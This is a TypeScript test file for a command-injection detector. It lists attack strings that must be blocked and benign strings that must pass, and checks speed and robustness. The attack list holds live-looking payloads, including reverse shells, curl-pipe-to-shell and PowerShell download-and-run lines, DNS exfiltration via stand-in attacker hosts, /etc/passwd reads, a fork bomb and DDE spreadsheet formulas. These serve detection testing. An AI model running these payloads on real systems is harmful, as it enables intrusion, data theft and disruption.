import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { detectCmdi } from '../src/threats/detectors/cmdi.js';
import type { DetectContext, Hit, Paranoia } from '../src/threats/types.js';
import { assertCheap } from './threats-timing.js';

function ctx(paranoia: Paranoia = 1, name = 'q'): DetectContext {
  return { paranoia, location: 'query', name, isKey: false };
}

function run(v: string, paranoia: Paranoia = 1): Hit | undefined {
  return detectCmdi(v, v.toLowerCase(), ctx(paranoia));
}

/** Refused at the default paranoia: a hit that counts at PL1 with critical severity. */
function blocks(v: string): boolean {
  const h = run(v, 1);
  return h !== undefined && h.paranoia === 1 && h.severity >= 5;
}

const ATTACKS: readonly string[] = [
  // Separators followed by a command
  ';id', '; id', '& id', '|id|', 'a;id', 'a);id|', '/index.html|id|', '||/usr/bin/id|', ';netstat -a;',
  'foo && cat /etc/passwd', 'x || wget http://evil.example/x.sh', '127.0.0.1\nid', 'www.google.com;cat /etc/passwd',
  '& ping -i 30 127.0.0.1 &', '; /bin/sleep 31 ;', "' ; /bin/sleep 31 ;", 'a | nc 10.0.0.1 4444 -e /bin/sh',
  // Substitutions
  '`id`', '`/usr/bin/id`', '$(whoami)', 'x$(cat /etc/passwd)', '<(cat file)', '`ping 127.0.0.1`',
  '0.84622338492032948`echo${IFS}crs312``echo${IFS}34test`', '$(whoami$())', '$(echo $(cat$(id)))',
  // a substitution glued to a host name (DNS exfiltration), a path or an assignment
  '`whoami`.attacker.example', 'nslookup `hostname`.x.oast.example', 'http://x.example/`id`',
  // Value that is a command line
  'cat /etc/passwd', 'ping -i 30 127.0.0.1', 'ping.exe -n 31 127.0.0.1', '/usr/bin/id', 'bash -c "echo test"',
  'python3 -c "import os"', 'perl -e \'print 1\'', 'nc -lvp 4444', 'uname -a', 'find / -name passwd',
  // Quoting, escaping and expansion obfuscation
  "c''at /etc/passwd", 'c\\at /etc/passwd', '"w"hoami', "'wh'oami", ';c$@at /etc/passwd', 'cat${IFS}/etc/passwd',
  ';cat$IFS$9/etc/passwd', '{cat,/etc/passwd}', ';{cat,/etc/passwd}', '/???/c?t /e??/p??s??', '/bi[n]/bash',
  'cat /etc/pa[s]swd', ';uname$u -a', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b', '\\ls -la',
  'www.google.com;c$_at+/et$_c/pas$_swd', 'time sh -c whoami', 'nohup whoami | sh',
  // Windows
  '&& dir c:\\', '| dir c:/', '& w^h^o^a^m^i', '%COMSPEC% /c whoami', 'cmd.exe /c dir', 'powershell -enc SQBFAFgA',
  'Invoke-WebRequest http://example.com/x.ps1', ';iex (iwr http://10.0.0.1/x.ps1)',
  'IEX(New-Object Net.WebClient).DownloadString("http://x/a")', 'certutil -urlcache -f http://evil/a.exe a.exe',
  'for /f "delims=" %i in (\'whoami\') do echo %i', 'IF EXIST C:\\boot.ini ECHO yes', 'if %x% equ 1 echo hi',
  // Reverse shells, Shellshock, SSI, fork bomb, here-strings
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/8.8.8.8/80', 'd=/dev&&(sh)0>$d/tcp/1.2.3.4/777',
  '() { :;}; /bin/bash -c "id"', '<!--#exec cmd="/bin/cat /etc/passwd"-->', ':(){ :|:& };:',
  'cat<<<ifconfig | sh', 'echo dW5hbWUgLWE= | base64 -d | sh',
  // A leading separator and a bare command as the whole value; capitals after it; cmd.exe variables
  ';top', '; ;top', ';rmt-tar', ';CHMOD +X EVIL.PHP', '" | type %SystemDrive%\\config.ini | "', '& type %windir%\\win.ini',
  '>/tmp/curl', '>> /etc/crontab', 'x; curl evil.example/x.sh | sh', 'a; nmap target', '& i^d', 'x`id`s',
  // Mail protocol injection after a line break
  // A spaced pipe opening the value, with no second `|` to make it a table cell
  '| whoami', '| sleep 10', ' | id', '| cat /etc/passwd',
  // one token, a line break, a command with a numeric argument
  '127.0.0.1\nsleep 5', 'example.com\nping -c 3 10.0.0.1',
  // argument injection: an option whose value is a command line the program runs
  // … while subcommands stay command lines
  'ansible-doc plugin ping', 'telnet 10.0.0.1 4444', 'cscli alerts list',
  '-oProxyCommand=sh -c id', '--upload-pack=touch /tmp/pwned', '--checkpoint-action=exec=sh shell.sh',
  '\r\nMAIL FROM:<a@b.com>', '\r\nRCPT TO:<postmaster@example.com>', '\r\nA001 EXAMINE INBOX',
  // an SMTP command without angle brackets, on a line of its own at the start; an option's value glued on both sides
  '\nRCPT TO: test@evil.example\n', '\r\nMAIL FROM: x@evil.example', 'ax--exec=`id`--remote=origin',
  'C:\\Windows\\System32\\payload.exe', '/usr/bin/anything',
  // a spreadsheet formula that starts a program through DDE (CSV export injection)
  "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

const BENIGN: readonly string[] = [
  'cat and dog; they ping me', 'Tom & Jerry', 'R&D', 'AT&T', 'Q&A', 'salt & pepper', 'mkdir & rmdir (Smith)',
  // a command's name heading a noun phrase (package descriptions, product searches)
  'telnet client', 'telnet server', 'rsync friendly encryption', 'bzip2 compression/decompression library',
  'zstd bindings for guile', 'fdisk partitioning library',
  '--color=auto', '-Dfile.encoding=UTF-8', '--config=config.json', '--name=cat food', '-sort=name asc',
  'Hello\nsleep 8 hours a night', 'Notes:\nMail from: john@example.com', '\nmail from: john@example.com, sent Monday',
  'Default=`none`', 'an `npm`-based build, keyed by `id`', 'C:\\Windows\\System32', 'C:\\Windows\\Temp',
  '=SUM(A1:A3)', '=HYPERLINK("https://example.com","site")', "= 'Yes'|'No'!", 'Total:\ntop 5 items', 'a | b', '| id |', '| Note: read this first', '| date | total |', '| Name | Age |\n|---|---|\n| id | 42 |', 'Terms & conditions', 'rock & roll; more than that',
  'C:\\Users\\bob\\Documents', 'Open C:\\Users\\bob\\Documents\\report.docx please', 'Type C:\\Program Files in the box',
  '1 - 2', '$19.99', '+34 912 345 678', '(555) 123-4567', '2024-01-31', 'echo is a word in this text',
  "O'Brien", 'select a plan', 'user@example.com', 'https://example.com/search?q=cat&id=5', 'https://www.google.com/',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'en-US,en;q=0.9', 'gzip, deflate, br',
  'Run `npm install` and then read the docs.', 'Use the `find` command to search files.', '## `type`',
  'More details are available at <https://example.com/a>.', 'Read more at https://example.com/docs',
  'Cut orange quarters into crosswise slices about 1/8-inch thick.', 'Mount Airy basketball coach',
  'The quick brown fox jumped over the lazy dog', ';"The quick brown fox jumped over the lazy dog"', 'red;$5 each',
  'a;$3 b;$4 c;$5', ';$a $b $c', 'hello; time he came', 'a hero; more than', 'time warner', 'ping pong tables',
  'Die untere Dortmunder Straße; links Haus Nr. 104', 'Ihre kleine Schwester ist französisches Esskulturgut; man gönnt sie sich.',
  'C’est simple: si les feux sont au vert', 'He was working three full-time jobs at Meta, IBM, and Tinder.',
  'c/ caridad s/n', 'campello, el', 'arenas de san juan', 'ar$a', 'p$ipo', '$vastedad', 'env olvente',
  'ls08e58tnf8b027oo1nr5sv3cc', 'dfc987c2-72e2-4a8e-ad98-e0bf1bc3a01c', 'SUDoLongRandomString', 'mail-unread',
  'Compra a MODULAR ALUMINIO ESTRUCTURAL, STRUT PROFILE PG30 30X30 4 SLOTS | SELF TAPPING SCREW PG30 M1',
  '{"name":"John Doe","age":"30","email":"johndoe@example.com"}', '["account","sharing"]', 'Does the * shine bright?',
  'hello [text in brackets]', 'page[1]', 'data[index]', 'take this math expression: 1[a/-1]', '**Bash warning**: careful',
  '$(document).ready(function () { init(); })', 'Size: 8"x11"', "That's two \"O\"s in goose", 'id', 'date', 'sort=name',
  'The `Copy` trait and `Clone`', 'See link(2) and popen(3)', 'if x == 1: return', 'if (a == b) { return }',
  ';More', 'Hello;More info', 'a; top', ';top of the list', 'WARNING; CHMOD is dangerous', 'type %windir% into the Run box',
  'Type %SystemDrive%\\Temp in the box', '| Type | %OS% |',
  'It failed; curl returned an error page', 'We use Kubernetes; docker images are built nightly.',
  'Build broke; npm registry was down for an hour', 'Returns the result of (e^x - 1), which is close to x',
  'nodejs için:', "a space-separated list of other elements' `id`s, indicating that", '> quoted text /tmp/x', '>/ home', '>>> /etc is a folder',
  'Edit `package`.json then run `npm`.', 'call `date`.toString() here', 'Run `ls`/`dir` to list', 'the `git`-based workflow',
  'Open `index`.html.tmpl first', 'Default=`true`, bigger = slower', 'Go to store.\nAt the store, shop.', 'Hello!\ndata not found.', 'We need the list "ASAP"', 'data:image/png;base64,iVBORw0KGgo=',
];

describe('detectCmdi', () => {
  for (const v of ATTACKS) {
    it(`flags ${JSON.stringify(v)}`, () => {
      const h = run(v);
      assert.ok(blocks(v), `expected a PL1 critical hit, got ${JSON.stringify(h)}`);
      assert.equal(h?.category, 'cmdi');
      assert.ok((h?.evidence.length ?? 0) <= 40);
      assert.ok(h?.detector.startsWith('cmdi.'));
    });
  }

  for (const v of BENIGN) {
    it(`does not block ${JSON.stringify(v)}`, () => {
      assert.ok(!blocks(v), `unexpected hit ${JSON.stringify(run(v))}`);
    });
  }

  it('keeps weaker shapes for higher paranoia levels', () => {
    for (const v of ['${IFS}', '$[-1]', 'a ${x#{}}', 'what time who knows', 'sleep 5', 'id', 'ansible-console']) {
      assert.ok(!blocks(v), `${v} must not block at PL1`);
    }
    const h = run('curl is a nice tool', 4);
    assert.ok(h !== undefined && h.paranoia >= 2, 'a bare tool name with a word argument is PL2+');
    assert.ok(run('$[-1]', 4) !== undefined, 'unary $[…] is reported at a higher paranoia');
    assert.ok(blocks('time who'), 'a prefix command running a command, as the whole value');
    assert.ok(blocks('$[2+2]'), 'bash arithmetic with a binary operator is refused at PL1');
    for (const v of ['$[0]', '$[1:2]', '$[(@.length-1)]']) assert.equal(run(v, 4), undefined, `JSONPath ${v}`);
  });

  it('reports the hit as detector "cmdi.*" with short evidence', () => {
    const h = run(';cat /etc/passwd');
    assert.ok(h);
    assert.match(h.detector, /^cmdi\./);
    assert.ok(h.evidence.length > 0 && h.evidence.length <= 40);
  });

  it('never throws on odd input', () => {
    for (const v of ['', ';', '`', '$', '${', '$(', '\\', '%', '^', "'", '"', '[', '{', '<', '\uFFFF', 'İ;id', '\u0000;\u0000']) {
      assert.doesNotThrow(() => detectCmdi(v, v.toLowerCase(), ctx(4)));
    }
  });

  it('runs in linear time on pathological inputs', () => {
    const N = 100_000;
    const rep = (s: string): string => s.repeat(Math.ceil(N / s.length)).slice(0, N);
    const inputs = [';', '$(((', "'''", '"', '|', '&', '`', '${', '{', '<', ';a', ';id ', '|id', '/???/', '[a', '\\',
      '^a', '%a', '\n', '$', '$a', '(', '<(', 'cat /etc/passwd ', 'for %a in (', 'if a==b ', '`a', "c'a't ", 'a=b;', '+',
      '\r\nA1 LIST ', 'f(){ ', '<!--#', '>/tmp/', 'The quick brown fox; jumps over the lazy dog & cat | more. '];
    const detect = (v: string): unknown => detectCmdi(v, v.toLowerCase(), ctx(4));
    for (const s of inputs) assertCheap(`${JSON.stringify(s)} x ${N}`, detect, rep(s), { ceilingMs: 50 });
    // Denser shapes, given more room (each reads a command word every few bytes; a quadratic
    // read would take seconds): a long leading run of separators, then many commands (the run
    // is read once); a clause of prose after a semicolon every 31 bytes (about 6 ms here).
    for (const v of [';'.repeat(N / 2) + 'More|'.repeat(N / 10), rep('x; curl returned an error page ')]) {
      assertCheap(`${JSON.stringify(v.slice(0, 12))}… x ${N}`, detect, v, { ceilingMs: 200 });
    }
  });
});
